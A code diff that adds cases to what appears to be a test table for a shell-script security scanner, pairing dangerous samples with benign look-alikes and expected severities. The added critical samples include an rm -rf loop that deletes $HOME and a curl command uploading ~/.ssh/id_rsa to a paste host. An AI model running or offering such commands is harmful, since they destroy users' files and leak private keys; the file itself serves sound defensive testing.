@@ -64,6 +64,18 @@ const CASES: [name: string, file: string, source: string, worst: Worst][] = [
     'critical',
   ],
   [
+    'rm over a loop that lists home among caches',
+    'caches.sh',
+    'for d in "$HOME/.cache/pip" "$HOME"; do\n  rm -rf "$d"\ndone\n',
+    'critical',
+  ],
+  [
+    'benign: rm over a loop of caches',
+    'caches2.sh',
+    'for d in "$HOME/.cache/pip" "$HOME/.npm/_cacache"; do\n  rm -rf "$d"\ndone\n',
+    'none',
+  ],
+  [
     'benign: guarded rm of a cache under home',
     'cache.sh',
     // biome-ignore lint/suspicious/noTemplateCurlyInString: shell source handed to the scanner
@@ -102,6 +114,18 @@ const CASES: [name: string, file: string, source: string, worst: Worst][] = [
     'benign: key used to authenticate ssh',
     'deploy.sh',
     'KEY=~/.ssh/id_ed25519\nssh -i "$KEY" deploy@host.example uptime\n',
+    'none',
+  ],
+  [
+    'key file uploaded as a curl form field',
+    'up.sh',
+    'F=$HOME/.ssh/id_rsa\ncurl -s -F "k=@$F" https://paste.example/api\n',
+    'critical',
+  ],
+  [
+    'benign: rsync over ssh with a key from a variable',
+    'rs.sh',
+    'KEY=~/.ssh/id_ed25519\nrsync -az -e "ssh -i $KEY" ./dist/ deploy@host.example:/srv/app/\n',
     'none',
   ],
   [
